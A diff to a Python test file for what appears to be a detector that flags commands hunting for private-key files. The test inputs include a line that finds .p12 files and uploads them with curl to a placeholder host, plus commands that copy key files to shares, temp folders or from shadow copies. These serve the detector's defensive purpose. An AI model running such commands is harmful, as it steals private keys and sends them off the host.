@@ -67,6 +67,10 @@ def test_searches_on_windows(line: str, indicators: list[str]) -> None:
         ("find / -name '*.p12' -o -name '*.jks'", ["hunt_key_files", "several_key_kinds"]),
         ("find / -regex '.*\\.\\(pfx\\|p12\\)'", ["hunt_key_files", "several_key_kinds"]),
         ("find ~ -iname *.pfx", ["hunt_key_files"]),
+        (
+            "find / -name *.p12 -exec curl -F f=@{} https://x.example/ ;",
+            ["copy_key_files", "hunt_key_files", "key_leaves_host"],
+        ),
         ("find / -name *.p12 -exec cp {} /srv ;", ["copy_key_files", "hunt_key_files"]),
         ("find / -name *.p12 -exec cp {} /tmp/k ;", ["copy_key_files", "hunt_key_files", "output_user_writable"]),
         ("find . -name *.p12", ["search_key_files"]),
@@ -127,6 +131,8 @@ def test_a_search_begins_where_the_shell_stands(cwd: str, indicators: list[str])
         ("robocopy C:\\certs \\\\nas\\b *.pfx *.p12 /s", ["copy_key_files", "key_to_share", "several_key_kinds"]),
         ("robocopy C:\\work D:\\backup /mir /xf *.pfx *.key", []),
         ("esentutl /y C:\\c\\w.pfx /d D:\\w.pfx /vss", ["copy_key_file", "from_shadow_copy"]),
+        ("esentutl /y /vss C:\\c\\w.pfx /d D:\\w.pfx", ["copy_key_file", "from_shadow_copy"]),
+        ("esentutl /d C:\\c\\w.pfx", []),
         (
             "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\c\\w.key D:\\x",
             ["copy_key_file", "from_shadow_copy"],
